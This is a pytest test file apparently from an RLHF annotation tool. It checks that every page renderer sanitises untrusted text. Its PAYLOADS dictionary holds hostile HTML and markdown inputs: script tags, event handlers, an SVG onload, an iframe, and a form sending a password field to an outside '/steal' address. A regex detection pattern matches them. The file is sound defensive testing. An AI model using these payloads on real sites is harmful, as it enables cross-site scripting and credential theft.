"""The standing security suite, text side (issue 24, finding 2): every untrusted text reaches a
page through one sanitiser (rlhf_workbench.app.render.safe_text). Each hostile payload, placed in
every field a page renders, must leave no tag that overlays, submits, loads or runs anything.
Add a payload to PAYLOADS, or a renderer to RENDERERS, to cover it."""

from __future__ import annotations

import re

import pytest

from rlhf_workbench.app.render import answer_md, pair_md, rejected_md, task_md, trace_md
from rlhf_workbench.app.review import dispute_md
from rlhf_workbench.human.duplicates import Entry
from rlhf_workbench.tasks.task import Task

PAYLOADS = {
    "overlay": '<div style="position:fixed;inset:0;z-index:9999;background:red">pwned</div>',
    "style": "<style>*{display:none}</style>",
    "form": '<form action="http://198.51.100.1/steal"><input name="pw"><button>Go</button></form>',
    "img": '<img src="http://198.51.100.1/pixel.png">',
    "md_img": "![x](http://198.51.100.1/md.png) and ![y][r]\n\n[r]: http://198.51.100.1/ref.png",
    "script": "<script>window.PWNED=1</script>",
    "handler": '<b onmouseover="window.PWNED=1" style="position:fixed">hover</b>',
    "svg": '<svg onload="window.PWNED=1"><image href="http://198.51.100.1/s.png"/></svg>',
    "iframe": '<iframe src="http://198.51.100.1/"></iframe>',
    "link_css": '<link rel="stylesheet" href="http://198.51.100.1/x.css">',
    "js_link": '<a href="javascript:window.PWNED=1">click</a>',
    "bidi": "Answer: 12\u202e34",
}
DANGEROUS = re.compile(r"<\s*(div|style|form|input|button|img|script|svg|image|iframe|link|a)\b|"
                       r"<[a-z][^>]*\b(style|on\w+|src|href)\s*=|(?<!\\)!\[|\u202e", re.I)


class _Trace:
    def __init__(self, text):
        self.text, self.reason, self.completion_id = text, "answer matches", 1


def _rendered(p: str) -> dict[str, str]:
    task = Task(id="t1", question=p, answer="12", answer_type="integer", context=p, choices={"A": p, "B": "x"})
    from rlhf_workbench.human.adjudication import Dispute

    dispute = Dispute(rollout_id=1, task_id="t1", rankings={"ann": {}}, rationales={"ann": p}, agreement=0.0)
    out = {"task": task_md(task), "trace": trace_md(1, _Trace(p)), "answer": answer_md(p),
           "pair": pair_md("A", Entry(trace=_Trace(p), completion_ids=[1]))}
    item = type("I", (), {"rejected": [_Trace(p)]})()
    out["rejected"] = rejected_md(item)
    out["dispute"] = dispute_md(dispute, [], "question")
    return out


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_no_hostile_markup_survives_any_renderer(name):
    for where, md in _rendered(PAYLOADS[name]).items():
        assert not DANGEROUS.search(md), (name, where, md)


def test_safe_text_keeps_what_annotators_need():
    from rlhf_workbench.app.render import safe_text

    assert safe_text("3 < 5 and a<b, <b>bold</b> & x") == "3 &lt; 5 and a&lt;b, <b>bold</b> &amp; x"
    assert safe_text("Answer: 12\u202e34") == "Answer: 12[U+202E]34"  # visible, as the verifier reads it
    long = safe_text("x" * 200_000)
    assert len(long) < 20_100 and long.endswith("180,000 more characters not shown)_")
